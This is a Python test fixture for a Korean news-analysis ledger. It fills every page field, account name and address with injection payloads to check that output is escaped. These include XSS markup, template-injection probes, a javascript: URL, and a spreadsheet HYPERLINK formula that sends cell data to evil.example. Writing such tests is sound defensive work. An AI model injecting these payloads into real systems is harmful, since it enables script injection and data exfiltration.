"""A ledger in which whatever others write means harm: markup, template code, formulas, addresses.

Readings are made by hand, so that no cleaning on the way in stands between the attack and a page.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace

from haengbo.knowledge import Knowledge
from haengbo.ledger import Ledger, accounts, alerts, decisions, erasing, intake, saved
from haengbo.ledger.alerts import Alert, AlertKind, Channel
from haengbo.ledger.decisions import By
from haengbo.ledger.outcomes import decide_outcome
from haengbo.ledger.views import EventFilter
from haengbo.model.article import Article, Block, BlockKind, Finding, Stated
from haengbo.model.decision import DecisionKind, Outcome
from haengbo.model.page import Known, MediaType, Page
from haengbo.model.reading import (
    Actor,
    ActorKind,
    EventReport,
    Expectation,
    ExpectationKind,
    Form,
    Link,
    Mention,
    Omission,
    Participant,
    ParticipantRole,
    Pattern,
    Reading,
    Role,
    Stance,
    Statement,
    Status,
    TimeExpression,
    WordingChange,
)
from haengbo.model.span import Span
from haengbo.pipeline import as_intake, collate
from haengbo.web.places import segment

#: Marks an attack in any output; each attack that runs would leave it in a dialog or a title.
MARK = "zz9"
#: Runs where a value is put into a page, an attribute, a script, a style or a template unescaped.
MARKUP = (
    f"'\"><img src=x onerror=alert('{MARK}')><script>alert('{MARK}')</script>{{{{7*7}}}}${{7*7}}"
)
#: Runs where an address is put into a link unlooked at.
SCRIPT = f"javascript:alert('{MARK}')"
#: Counts in a spreadsheet.
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
DAY = "2025-06-04"


#: A field's name → the attack that stands in it.
Evil = Callable[[str], str]


def markup(what: str) -> str:
    """Markup behind the name of the field."""
    return f"{what}{MARKUP}"


def formula(what: str) -> str:
    """A formula, a line of its own and what ends a quotation."""
    return f"{FORMULA}{what}\r\nATTENDEE:mailto:x@evil.example\t}},\n@string{{x"


class _Text:
    """A page's text written piece by piece; gives the span of each."""

    def __init__(self) -> None:
        self.text = ""

    def put(self, piece: str, end: str = "\n") -> Span:
        """Write a piece."""
        start = len(self.text)
        self.text += piece + end
        return Span(start, start + len(piece))


def hostile_page(number: int, place: str, url: str, evil: Evil = markup) -> tuple[Page, Reading]:
    """A page and its reading with an attack in every field that a page or a reader fills."""
    text = _Text()
    title, caption = text.put(evil("제목")), text.put(evil("사진 설명"))
    event, said = text.put(evil(f"만났다 {number}")), text.put(evil("발언"))
    hoped, remark = text.put(evil("전망")), text.put(evil("지적"))
    kinds = (BlockKind.TITLE, BlockKind.CAPTION, *[BlockKind.BODY] * 4)
    spans = (title, caption, event, said, hoped, remark)
    name = f"폴더/{number}{MARKUP.replace('/', '_')}#?&.html"
    page = Page(
        name,
        f"<title>{MARK}{number}</title><script>alert('{MARK}')</script>{text.text}".encode(),
        MediaType.HTML,
        Known(DAY, evil("매체"), url),
        charset="utf-8",
    )
    article = Article(
        page.name,
        page.sha256,
        page.media_type,
        text.text,
        tuple(
            Block(kind, span, at, evil("규칙"), evil("/html/p"))
            for at, (kind, span) in enumerate(zip(kinds, spans, strict=True), 1)
        ),
        outlet=Stated(evil("매체"), None, evil("규칙")),
        origin=Stated(evil("원문 매체"), None, "test"),
        authors=(Stated(evil("기자"), None, "test"),),
        published=Stated(DAY, None, "test"),
        updated=Stated(f"{DAY}T10:00+09:00", None, "test"),
        url=url,
        findings=(Finding("odd", evil("알아 둘 것"), title),),
    )
    chain = (Link(evil("전한 이"), event, evil("cue:")),)
    people = tuple(_actor(who, event, evil) for who in ("사람", "상대"))
    reading = Reading(
        page.stem,
        article,
        "hostile",
        "hostile",
        actors=people,
        entities=(replace(_actor("곳", event, evil), kind=ActorKind.PLACE),),
        mentions=tuple(
            Mention(
                Span(event.start + i, event.start + i + 2),
                p.name,
                p.kind,
                evil("규칙"),
                0.9,
                Span(event.start + i, event.start + i + 1),
                evil("직함"),
                evil("나라"),
            )
            for i, p in enumerate(people)
        ),
        times=(TimeExpression(Span(event.start, event.start + 3), DAY, None, evil("규칙"), 0.9),),
        events=(_event(event, place, chain, evil),),
        statements=(_statement(said, chain, evil),),
        expectations=(_expectation(hoped, evil),),
        wording_changes=(
            WordingChange(evil("옛말"), evil("새말"), evil("어디"), remark, evil("규칙"), 0.9),
        ),
        omissions=(Omission(evil("빠진 것"), evil("누가"), remark, evil("규칙"), 0.9),),
        patterns=(
            Pattern(
                *(evil("이럴 때"), evil("저런다"), ((evil("때"), evil("일")),)),
                *(remark, evil("규칙"), 0.9),
            ),
        ),
        findings=(Finding("odd", evil("알아 둘 것"), event),),
    )
    return page, reading


def _actor(who: str, span: Span, evil: Evil) -> Actor:
    role = Role(evil("직함"), evil("나라"), span)
    return Actor(
        *(evil(who), ActorKind.PERSON, (evil("딴이름"), evil(who)), (role,)),
        *(Span(span.start, span.start + 2), evil("규칙"), 0.9, None),
    )


def _event(span: Span, place: str, chain: tuple[Link, ...], evil: Evil) -> EventReport:
    return EventReport(
        *("e1", "CONSULT", "meeting", Status.OCCURRED, DAY, evil(place)),
        tuple(Participant(evil(who), ParticipantRole.PARTY) for who in ("사람", "상대")),
        (evil("주제"),),
        chain,
        *((span,), span, evil("규칙"), 0.9),
    )


def _statement(span: Span, chain: tuple[Link, ...], evil: Evil) -> Statement:
    return Statement(
        *("s1", (evil("사람"),), Form.DIRECT, span, (evil("상대"),), "e1"),
        *((Stance(evil("상대"), "support"),), chain, DAY, evil("규칙"), 0.9, span),
    )


def _expectation(span: Span, evil: Evil) -> Expectation:
    return Expectation(
        ExpectationKind.FORECAST,
        evil("사람"),
        evil("상대"),
        evil("연구소"),
        span,
        evil("내다봄"),
        evil("같다"),
        "2026-01-01",
        evil("무엇이"),
        evil("규칙"),
        0.9,
    )


def fill(ledger: Ledger, knowledge: Knowledge, evil: Evil = markup) -> dict[str, str]:
    """Fill a ledger; returns what its addresses are made of."""
    pages = [
        hostile_page(1, "곳", SCRIPT, evil),
        hostile_page(2, "딴곳", SCRIPT, evil),
        hostile_page(3, "곳", "https://x.example/'\"><script>alert(1)</script>", evil),
        hostile_page(4, "곳", FORMULA, evil),
    ]
    for page, reading in pages:
        with ledger.writing() as session:
            intake.put(session, as_intake(page, reading, knowledge, ledger.words))
            intake.log(session, page.name, page.sha256, "read", evil("까닭"))
    collate(ledger, knowledge)
    event = ledger.events(size=1).items[0].id
    expectation = next(iter(ledger.all_expectations())).id
    number = _decide(ledger, event, expectation, evil)
    collate(ledger, knowledge)
    _keep(ledger, evil)
    with ledger.writing() as session:
        erasing.erase(session, pages[3][0].sha256, By(evil("지운 이"), evil("까닭")))
    collate(ledger, knowledge)
    page = pages[0][0]
    # Names as hostile as those of the pages: a pair of them has a page too
    pair = [actor.name for actor in ledger.actors()]
    return {
        "event_id": ledger.events(size=1).items[0].id,
        "event": ledger.events(size=1).items[0].id,
        "name:path": page.sha256,
        "page:path": page.sha256,
        "sha256": page.sha256,
        "key": expectation,
        "expectation": expectation,
        "statement": next(iter(ledger.all_statements())).id,
        "decision": str(number),
        "number": "1",
        "name": "시험",
        "one": segment(pair[0]),
        "other": segment(pair[1]),
        "code": "third",
    }


def _decide(ledger: Ledger, event: str, expectation: str, evil: Evil) -> int:
    by = By(evil("정한 이"), evil("까닭"))
    with ledger.writing() as session:
        for field in ("place", "label_ko", "label_en"):
            decisions.correct(session, event, field, evil(field), by)
        decisions.correct(session, event, "participants", f"{evil('사람')}; {evil('셋째')}", by)
        for kind in (DecisionKind.NOTE, DecisionKind.TAG, DecisionKind.CONFIRM):
            decisions.annotate(session, event, kind, evil(kind.value), by)
        decide_outcome(session, expectation, Outcome.MET, by=by, event=event)
        return decisions.undo(session, 1, by)


def _keep(ledger: Ledger, evil: Evil) -> None:
    with ledger.writing() as session:
        for who in ("나엮음", "나관리"):
            saved.save_view(session, who, '"><img src=x onerror=alert(1)>', "q=%22%3E%3Cscript%3E")
        accounts.add_account(
            session,
            '"><img src=x onerror=alert(1)>',
            "열 글자가 넘는 비밀번호",
            accounts.Role.ADMIN,
            evil("시험"),
        )
        accounts.add_token(
            session, '"><img src=x onerror=alert(1)>', evil("열쇠"), accounts.Role.READER
        )
        alert = Alert("시험", AlertKind.EVENT, evil("찾기"), EventFilter(), Channel.FEED)
        alerts.add(session, alert, evil("누가"), ())
